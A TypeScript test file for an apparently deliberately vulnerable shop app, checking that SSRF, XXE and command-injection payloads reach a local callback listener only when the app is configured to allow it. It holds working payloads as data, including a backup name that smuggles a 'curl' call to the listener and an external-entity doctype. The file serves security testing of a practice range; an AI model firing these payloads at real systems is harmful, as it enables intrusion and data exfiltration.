import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { createShop } from '../shop.ts';

const heard: string[] = [];
const listener = createServer((request, response) => {
  heard.push(request.url ?? '');
  response.end('heard');
});
let shops: Record<'allowed' | 'refused', Server>;
let place = '';

const portOf = (server: Server) => (server.address() as AddressInfo).port;
const listen = (server: Server) => new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));

before(async () => {
  await listen(listener);
  place = `127.0.0.1:${portOf(listener)}`;
  shops = { allowed: createShop({ isWhole: true, mayCall: [place] }), refused: createShop({ isWhole: true }) };
  for (const shop of Object.values(shops)) await listen(shop);
});
after(() => {
  for (const server of [listener, ...Object.values(shops)]) {
    server.close();
    server.closeAllConnections();
  }
});

const post = (shop: Server, path: string, body: string) =>
  fetch(`http://127.0.0.1:${portOf(shop)}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body,
  });

const attacks: Record<string, { heardAs: string; run: (shop: Server) => Promise<Response> }> = {
  'the preview of a link': {
    heardAs: '/ssrf',
    run: (shop) => post(shop, '/api/links/preview', JSON.stringify({ url: `http://${place}/ssrf` })),
  },
  'an entity of XML': {
    heardAs: '/xxe',
    run: (shop) => {
      const doctype = `<!DOCTYPE w [<!ENTITY e SYSTEM "http://${place}/xxe">]>`;
      return post(shop, '/api/wishes/import', `${doctype}<wishes><wish>&e;</wish></wishes>`);
    },
  },
  'a command that nobody sees': {
    heardAs: '/cmd-42',
    run: (shop) =>
      post(shop, '/api/tools/backup', JSON.stringify({ name: `x; curl http://${place}/cmd-$((6*7)); echo ` })),
  },
};

describe('somebody outside', () => {
  for (const [what, { heardAs, run }] of Object.entries(attacks)) {
    it(`hears of ${what} where the range may call them, and only there`, async () => {
      heard.length = 0;
      await run(shops.refused);
      assert.deepEqual(heard, []);
      await run(shops.allowed);
      assert.deepEqual(heard, [heardAs]);
    });
  }
});
